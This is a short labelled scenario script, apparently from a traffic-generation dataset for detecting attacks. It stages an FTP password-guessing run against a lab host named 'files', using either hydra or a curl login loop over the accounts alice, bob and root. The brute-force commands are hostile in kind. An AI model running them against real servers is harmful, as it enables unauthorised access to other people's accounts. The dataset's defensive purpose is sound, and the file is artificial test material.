# label: malicious
# class: bruteforce
# twin: ftp_forgetful
# tools: hydra curl vsftpd
# about: Passwords of accounts are guessed over FTP.
# command: hydra ftp:// or curl ftp://
# params: fast net=lan TOOL=hydra TRIES=30 FOUND=1 OPTS="-t 6" limit=25
# params: client net=wan TOOL=curl TRIES=14 limit=22
words "$TRIES" >list
# Some guesses are right in the end.
[ -z "${FOUND:-}" ] || echo alice-keeps-7-secrets >>list
if [ "$TOOL" = hydra ]; then
	hydra -I -l alice -P list $OPTS ftp://files
else
	while read -r guess; do
		curl -s --max-time 8 -u "$(pick alice bob root):$guess" ftp://files/ &
		pause 0.3 1.1
	done <list
	wait
fi
true
